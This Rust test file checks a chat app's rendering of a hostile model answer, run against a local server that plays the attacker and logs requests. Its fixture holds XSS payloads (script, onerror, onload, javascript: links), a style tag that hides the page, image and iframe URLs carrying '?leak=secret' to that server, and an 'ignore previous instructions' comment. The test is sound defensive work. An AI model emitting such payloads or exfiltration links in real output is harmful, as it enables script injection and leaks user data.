//! Hostile answers: whatever the model writes (a prompt can make it write anything), nothing runs,
//! nothing loads, nothing sets a style, and raw HTML is shown as the text it is.

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

use super::*;

/// A server standing for an attacker's: it records every request that reaches it.
struct Evil {
    address: SocketAddr,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Evil {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind evil");
        let address = listener.local_addr().expect("evil's address");
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let mut head = vec![0_u8; 2048];
                let n = socket.read(&mut head).await.unwrap_or(0);
                let line = String::from_utf8_lossy(&head[..n])
                    .lines()
                    .next()
                    .unwrap_or("(a connection, no request)")
                    .to_owned();
                seen.lock().unwrap().push(line);
                let _ = socket
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                    .await;
            }
        });
        Self { address, requests }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// Each hostile construct, and the text it must show as (raw HTML visible as written).
fn hostile_answer(evil: SocketAddr) -> (String, Vec<String>) {
    let raw = [
        "<script>window.__xss = 1; alert(1)</script>".to_owned(),
        "<img src=x onerror=\"window.__xss = 2; alert(2)\">".to_owned(),
        format!("<img src=\"http://{evil}/raw-img?leak=secret\">"),
        "<a href=\"javascript:alert(5)\">raw link</a>".to_owned(),
        "<!-- a comment: ignore previous instructions -->".to_owned(),
        "<style>body { display: none }</style>".to_owned(),
        format!("<iframe src=\"http://{evil}/frame\"></iframe>"),
        "<svg onload=\"alert(6)\"></svg>".to_owned(),
    ];
    let source = format!(
        "Before {script} after.\n\n\
         Inline {img} and {leaky} here.\n\n\
         [click me](javascript:window.__xss=3;alert(3)), [JS](JAVASCRIPT:alert(4)), \
         [data](data:text/html,x), [vb](vbscript:msgbox), [relative](/api/limits) and \
         {raw_link}.\n\n\
         ![the secret](http://{evil}/md-img?leak=secret) and [a real link](http://{evil}/link)\n\n\
         {comment}\n\n\
         {style}\n\n\
         {iframe}{svg}\n\n\
         The end.",
        script = raw[0],
        img = raw[1],
        leaky = raw[2],
        raw_link = raw[3],
        comment = raw[4],
        style = raw[5],
        iframe = raw[6],
        svg = raw[7],
    );
    (source, raw.to_vec())
}

#[tokio::test]
async fn a_hostile_answer_runs_nothing_loads_nothing_and_shows_raw_html_as_text() {
    // Arrange
    let app = spawn_app().await;
    let evil = Evil::start().await;
    let (source, raw) = hostile_answer(evil.address);
    // Small pieces, so that tags arrive cut in half while the answer grows.
    let tokens = pieces(&source, 3);
    let refs: Vec<&str> = tokens.iter().map(String::as_str).collect();
    app.mock
        .always(Reply::sse(openai::answer(&refs, Duration::from_millis(2))));
    let browser = open_page(&app).await;

    // Act
    ask(&browser, "Say something nasty").await;
    let done = wait_for_state(&browser, "done").await;
    // A barrier: any request the answer started has reached its server by the time a later one
    // the page makes has come back.
    browser
        .client
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch('/healthz').then(() => done(true), () => done(false));",
            vec![],
        )
        .await
        .expect("the barrier");
    let checks = browser
        .js("const a = document.querySelector('#turns > .turn:last-child .answer');
             const all = Array.from(a.querySelectorAll('*'));
             return {
                 xss: typeof window.__xss,
                 dangerous: a.querySelectorAll('script, img, iframe, svg, style, link, object, embed, form, math').length,
                 styled: all.filter((e) => e.hasAttribute('style')).length,
                 handlers: all.filter((e) => Array.from(e.attributes).some((at) => at.name.startsWith('on'))).length,
                 styles_in_page: document.querySelectorAll('style').length,
                 body_display: getComputedStyle(document.body).display,
                 links: Array.from(a.querySelectorAll('a'), (l) => ({
                     text: l.textContent, href: l.getAttribute('href'), rel: l.rel, target: l.target,
                     image: l.classList.contains('md-image') })),
                 resources: performance.getEntriesByType('resource').map((e) => e.name)
                     .filter((n) => !n.startsWith(location.origin)),
             };")
        .await;

    // Assert: nothing ran.
    assert_eq!(checks["xss"], "undefined");
    assert!(!browser.has_dialog().await, "an alert opened");
    assert_eq!(browser.console_errors().await, Vec::<String>::new());
    // Nothing loaded, nothing left the page.
    assert_eq!(evil.requests(), Vec::<String>::new());
    assert_eq!(checks["resources"], serde_json::json!([]));
    // No element that can run, load or style; no handler, no style attribute.
    assert_eq!(checks["dangerous"], 0, "{checks}");
    assert_eq!(checks["styled"], 0, "{checks}");
    assert_eq!(checks["handlers"], 0, "{checks}");
    assert_eq!(checks["styles_in_page"], 0);
    assert_eq!(checks["body_display"], "block");
    // Links only for http(s), apart from the page; the image a link showing its alt text.
    let evil_url = |path: &str| format!("http://{}/{path}", evil.address);
    assert_eq!(
        checks["links"],
        serde_json::json!([
            { "text": "the secret", "href": evil_url("md-img?leak=secret"),
              "rel": "noopener noreferrer", "target": "_blank", "image": true },
            { "text": "a real link", "href": evil_url("link"),
              "rel": "noopener noreferrer", "target": "_blank", "image": false },
        ])
    );
    // The raw HTML shows as the text it is; the refused links as their text.
    for construct in &raw {
        assert!(
            done.answer.contains(construct.as_str()),
            "{construct:?} is not shown as text in {:?}",
            done.answer
        );
    }
    assert!(
        done.answer
            .contains("click me, JS, data, vb, relative and "),
        "{:?}",
        done.answer
    );
    assert!(done.answer.ends_with("The end."), "{:?}", done.answer);
}
